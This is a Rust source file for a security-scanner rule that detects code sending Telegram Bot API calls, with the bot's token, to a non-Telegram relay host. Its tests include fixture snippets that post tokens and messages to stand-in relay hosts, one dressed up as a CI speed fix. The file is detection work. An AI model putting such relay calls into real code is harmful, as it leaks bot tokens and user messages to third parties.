//! R-RULE-4 read for a chat bot's token: a file that calls the Telegram
//! Bot API's methods (`/bot<token>/sendMessage`) on a host that is not
//! Telegram's sends the bot's token, and every message and file, to that
//! host (a "regional relay" in a malicious fastlane or CI plugin). Found
//! at the host's address; a local Bot API server (`localhost`, a private
//! address) is the user's own.

use std::sync::LazyLock;

use regex::Regex;

use super::{RuleId, Sink};

/// Whether a file is worth the check: it names a Bot API method's path,
/// or a path whose method is put in (`"#{base}/bot#{token}/#{method}"`) in
/// a file that names a method.
pub(super) fn is_candidate(text: &str) -> bool {
    memchr::memmem::find(text.as_bytes(), b"/bot").is_some()
        && (METHOD.is_match(text) || (METHOD_PUT_IN.is_match(text) && METHOD_NAME.is_match(text)))
}

/// A Bot API path with both the token and the method put in.
static METHOD_PUT_IN: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"/bot(?:#\{|\$\{|\{)[^/\n]{0,60}/(?:#\{|\$\{|\{|%s)"#).unwrap());

/// A Bot API method named in a string.
static METHOD_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"["'](?:send(?:Message|Document|Photo|Video|Audio|MediaGroup)|getUpdates|getMe|getFile|forwardMessage)["']"#,
    )
    .unwrap()
});

/// A Bot API method's path with the token put in: `"/bot#{token}/sendMessage"`,
/// `` `/bot${TOKEN}/sendDocument` ``, `"/bot" + token + "/getUpdates"`,
/// `f"/bot{token}/sendPhoto"`, `/bot%s/sendMessage`.
static METHOD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"/bot(?:#\{|\$\{|\{|%s|["'`][ \t]*(?:\+|\.\.|\.)|<)[^/\n]{0,60}/(?:send[A-Z][A-Za-z]*|getUpdates|getMe|getFile|forwardMessage|copyMessage)"#).unwrap()
});

pub(super) fn check_file(text: &str, sink: &mut Sink<'_>) {
    static URL: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r#"https?://(?P<host>[A-Za-z0-9.-]+)(?::[0-9]+)?"#).unwrap());
    let mut telegram = false;
    let mut other: Option<(usize, &str)> = None;
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let code = line.trim_start();
        // Comments explain; the address used is in the code.
        let comment =
            code.starts_with('#') || code.starts_with("//") || code.starts_with("--") || code.starts_with('*');
        if !comment {
            for c in URL.captures_iter(line) {
                let Some(host) = c.name("host") else { continue };
                let h = host.as_str().to_ascii_lowercase();
                if h == "api.telegram.org" || h.ends_with(".telegram.org") || h == "t.me" {
                    telegram = true;
                } else if !is_local(&h) && other.is_none() {
                    other = Some((at + host.start(), host.as_str()));
                }
            }
        }
        at += line.len();
    }
    let Some((pos, host)) = other else { return };
    // Telegram's address named too: the other host counts when it is the
    // default the base falls back to (`ENV.fetch("TG_API_BASE", RELAY)`),
    // Telegram's then only a fallback.
    if telegram && !is_default(text, host) {
        return;
    }
    let (txt, lines) = (sink.text, sink.lines);
    let host = crate::text::truncate_chars(host, 60).to_owned();
    sink.add(RuleId::CredentialExfiltration, pos, || {
        format!("the Telegram Bot API's methods called on {host}, not Telegram's address: the bot's token and every message go there: {}", crate::text::excerpt(txt, lines, pos..pos + host.len()))
    });
}

/// Whether the address of `host` is a default: given as the fallback of an
/// environment read (`ENV.fetch("X", RELAY)`, `os.getenv("X", "https://…")`,
/// `process.env.X || RELAY`), itself or through the constant it is assigned to.
fn is_default(text: &str, host: &str) -> bool {
    let h = regex::escape(host);
    let Ok(assigned) = Regex::new(&format!(
        r#"(?m)^[ \t]*(?:(?:const|let|var|final|static|private|public)[ \t]+)*([A-Za-z_][A-Za-z0-9_]*)[ \t]*(?::[^=\n]*)?=[ \t]*["'`]https?://{h}"#
    )) else {
        return false;
    };
    let mut names: Vec<String> = assigned.captures_iter(text).map(|c| regex::escape(&c[1])).collect();
    names.push(format!(r#"["'`]https?://{h}"#));
    let Ok(default) = Regex::new(&format!(
        r#"(?:fetch|getenv|get|environ\.get|getProperty)[ \t]*\([^)\n]*,[ \t]*(?:{alts})|(?:\|\||\?\?|(?-u:\b)or)[ \t]*(?:{alts})"#,
        alts = names.join("|")
    )) else {
        return false;
    };
    default.is_match(text)
}

fn is_local(h: &str) -> bool {
    h == "localhost"
        || h.starts_with("127.")
        || h.starts_with("10.")
        || h.starts_with("192.168.")
        || h.ends_with(".local")
        || h.ends_with(".internal")
}

#[cfg(test)]
mod tests {
    use crate::rules::{check_file, RuleId};

    fn found(path: &str, text: &str) -> bool {
        check_file(path, text).findings.iter().any(|f| f.rule == RuleId::CredentialExfiltration)
    }

    #[test]
    fn r_rule_4_bot_api_methods_on_another_host_are_found() {
        let rb = "# api.telegram.org is slow from CI, use the relay\nBASE = ENV.fetch('TG_BASE', 'https://tg-relay.x.example')\n\
                  def send(token, chat, text)\n  conn.post(\"/bot#{token}/sendMessage\", chat_id: chat, text: text)\nend\n";
        assert!(found("lib/helper.rb", rb));
        let js =
            "const base = 'https://relay.x.example';\nfetch(`${base}/bot${TOKEN}/sendDocument`, { method: 'POST' });\n";
        assert!(found("notify.js", js));
        // The relay as the default base, Telegram's address a fallback, the
        // method put in.
        let fallback = "OFFICIAL = \"https://api.telegram.org\".freeze\nRELAY = \"https://tg-bridge.x.invalid\".freeze\n\
                        @base = ENV.fetch(\"TG_API_BASE\", RELAY)\ndef endpoint(m) = URI(\"#{@base}/bot#{@token}/#{m}\")\n\
                        def send(t) = post(\"sendMessage\", text: t)\n";
        assert!(found("lib/client.rb", fallback));
        // Telegram's address the default, a mirror the fallback: not.
        let mirror = fallback.replace("ENV.fetch(\"TG_API_BASE\", RELAY)", "ENV.fetch(\"TG_API_BASE\", OFFICIAL)");
        assert!(!found("lib/client.rb", &mirror));
    }

    #[test]
    fn r_rule_4_telegrams_own_address_or_a_local_server_is_not() {
        let own = "BASE = 'https://api.telegram.org'\nconn.post(\"/bot#{token}/sendMessage\", text: t)\n";
        let local = "base = 'http://localhost:8081'\nrequests.post(f'{base}/bot{token}/sendMessage', data=d)\n";
        let docs = "See https://core.telegram.org/bots/api for /botTOKEN/sendMessage.\n";
        for (p, t) in [("a.rb", own), ("b.py", local), ("c.md", docs)] {
            assert!(!found(p, t), "{t}");
        }
    }
}
